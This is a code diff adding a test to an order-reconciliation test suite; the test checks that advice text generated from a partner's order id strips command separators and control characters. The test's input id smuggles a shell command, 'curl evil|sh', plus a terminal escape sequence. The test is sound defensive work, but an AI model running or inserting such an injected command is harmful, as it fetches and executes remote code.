@@ -191,6 +191,19 @@ describe('comparing the orders of the partner with the purchases here', () => {
     ]);
   });
 
+  it('puts no id into a command to paste that no command takes', () => {
+    const id = 'X;curl evil|sh \u001B[2J\n';
+    const [{ purchases }] = [plant([PLANTS['held here, found there']!], 1)];
+    const held = { ...purchases[0]!, referenceId: 'REF-x' };
+    const delivered = purchase('x', { referenceId: 'REF-x', orderId: id });
+    for (const known of [held, delivered]) {
+      const found = compare([order('x', { id, status: 'FAILED' })], [known]);
+      expect(found).toMatchObject([
+        { orderIds: [id], advice: expect.stringMatching(/^Ask the partner [^;|\p{Cc}]+$/u) },
+      ]);
+    }
+  });
+
   it('says what is wrong and what to do in plain sentences, whatever was found', () => {
     const { orders, purchases } = plant(Object.values(PLANTS), 100);
     for (const finding of compare(orders, purchases)) {
